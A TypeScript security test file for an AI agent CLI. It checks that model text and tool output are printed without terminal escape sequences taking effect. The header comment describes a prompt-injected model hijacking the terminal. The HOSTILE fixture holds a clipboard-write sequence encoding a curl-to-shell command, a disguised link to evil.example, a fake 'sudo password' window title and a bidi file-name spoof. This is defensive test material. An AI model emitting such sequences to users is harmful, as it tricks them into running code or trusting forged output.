/**
 * Issue 28, finding 9: the CLI printed model text and tool output raw. A prompt-injected model
 * (or a tool result) can then write the clipboard (OSC 52), plant disguised links (OSC 8),
 * retitle the window, or move the cursor to rewrite the "completed" line. The CLI must show such
 * text without the terminal acting on it, keep its own colours, and a lint rule must keep any
 * new output path from printing raw.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ESLint } from 'eslint';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { jsonText, terminalSafe } from '../../src/cli/render.js';
import { SqliteStore } from '../../src/store/sqlite-store.js';

const ESC = '\u001b';
const BEL = '\u0007';
/** What a hostile model writes: clipboard, hyperlink, title, cursor up + erase, 8-bit CSI, bidi override. */
const HOSTILE =
  `Done.${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}` +
  `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\` +
  `${ESC}]0;sudo password${BEL}${ESC}[1A${ESC}[2K\r` +
  `\u009b31mred\u202etxt.exe`;

let dir = '';
let url = '';
let turnId = '';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'tk-terminal-'));
  url = `sqlite:${join(dir, 'cli.sqlite')}`;
  const store = await SqliteStore.open(join(dir, 'cli.sqlite'));
  const conversation = await store.createConversation({ agentName: 'helper' });
  const turn = await store.createTurn({
    conversationId: conversation.id,
    agentName: 'helper',
    status: 'running',
  });
  turnId = turn.id;
  await store.appendMessage({
    conversationId: conversation.id,
    turnId,
    role: 'assistant',
    content: [{ type: 'text', text: HOSTILE }],
  });
  const execution = await store.createToolExecution({
    turnId,
    toolCallId: `call${ESC}[2J`,
    toolName: `fetch_page${ESC}[1A${ESC}[2K`,
    status: 'running',
  });
  await store.claimToolExecution(execution.id, {
    from: 'running',
    to: 'completed',
    result: { page: HOSTILE },
  });
  await store.updateTurn(turnId, {
    status: 'failed',
    outputText: HOSTILE,
    error: { class: 'ToolError', message: HOSTILE },
    completedAt: new Date().toISOString(),
  });
  await store.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** Runs the CLI in this process with a terminal-like stdout (colours on) and returns what it wrote. */
async function cli(args: string[]): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const stream = (append: (text: string) => void) =>
    ({
      isTTY: true,
      columns: 120,
      write: (text: string) => (append(text), true),
    }) as unknown as NodeJS.WriteStream;
  const previous = process.env['NO_COLOR'];
  delete process.env['NO_COLOR'];
  try {
    const code = await main(['--store', url, ...args], {
      out: stream((text) => (out += text)),
      err: stream((text) => (err += text)),
    });
    return { code, out, err };
  } finally {
    if (previous !== undefined) process.env['NO_COLOR'] = previous;
  }
}

/** Every escape sequence in `text` is an SGR colour code: nothing else reaches the terminal. */
/* eslint-disable no-control-regex -- looking for control characters */
function onlyColours(text: string): void {
  const codes = text.match(/\u001b(\[[0-9;]*[A-Za-z]|.)/g) ?? [];
  expect(codes.filter((code) => !/^\u001b\[[0-9;]*m$/.test(code))).toEqual([]);
  expect(text).not.toMatch(/[\u0007\u0080-\u009f\u202a-\u202e\u2066-\u2069\r]/);
}
/* eslint-enable no-control-regex */

describe('the CLI does not let model text act on the terminal', () => {
  it('security: `turnkit show` of a turn whose output, transcript, tool result and error carry OSC 52/OSC 8/title/cursor codes prints the text without them, with its own colours', async () => {
    const { code, out } = await cli(['show', turnId]);
    expect(code).toBe(3);
    expect(out).toContain(`${ESC}[31mfailed${ESC}[39m`);
    expect(out).toContain('Done.');
    expect(out).toContain('fetch_page completed');
    expect(out).toContain('assistant: Done.clickredtxt.exe');
    expect(out).toContain('error: ToolError: Done.clickredtxt.exe');
    onlyColours(out);
  });

  it('security: `turnkit --json show` stays JSON with the same text, but C1 and bidi characters escaped', async () => {
    const { out } = await cli(['--json', 'show', turnId]);
    onlyColours(out.replace(/\\u001b/g, ''));
    expect(out).not.toContain(ESC);
    const parsed = JSON.parse(out) as { turn: { outputText: string } };
    expect(parsed.turn.outputText).toBe(HOSTILE);
  });

  it('security: terminalSafe removes CSI, OSC (BEL or ST ended, or never ended), DCS, 8-bit CSI, controls and bidi overrides, and keeps text, tabs and newlines', () => {
    expect(terminalSafe(HOSTILE)).toBe('Done.clickredtxt.exe');
    expect(terminalSafe(`a\tb\nc${ESC}]52;c;AAAA\nd${ESC}Pq#0;2;0;0;0${ESC}\\e\u0000f\u007f`)).toBe(
      'a\tb\nc\ndef',
    );
    expect(terminalSafe('ünïcödé ✓ 日本')).toBe('ünïcödé ✓ 日本');
    expect(JSON.parse(jsonText({ t: HOSTILE }))).toEqual({ t: HOSTILE });
  });

  it('security: the lint rule refuses a raw write or console call in src/cli outside the renderer', async () => {
    const eslint = new ESLint();
    const [raw] = await eslint.lintText(
      'export function show(text: string): void {\n  process.stdout.write(text);\n  console.log(text);\n}\n',
      { filePath: 'src/cli/new-command.ts' },
    );
    expect(raw!.messages.filter((m) => m.ruleId === 'no-restricted-syntax')).toHaveLength(2);
    const [renderer] = await eslint.lintText('export const w = (s: NodeJS.WriteStream) => s.write("x");\n', {
      filePath: 'src/cli/render.ts',
    });
    expect(renderer!.messages.filter((m) => m.ruleId === 'no-restricted-syntax')).toEqual([]);
  });
});
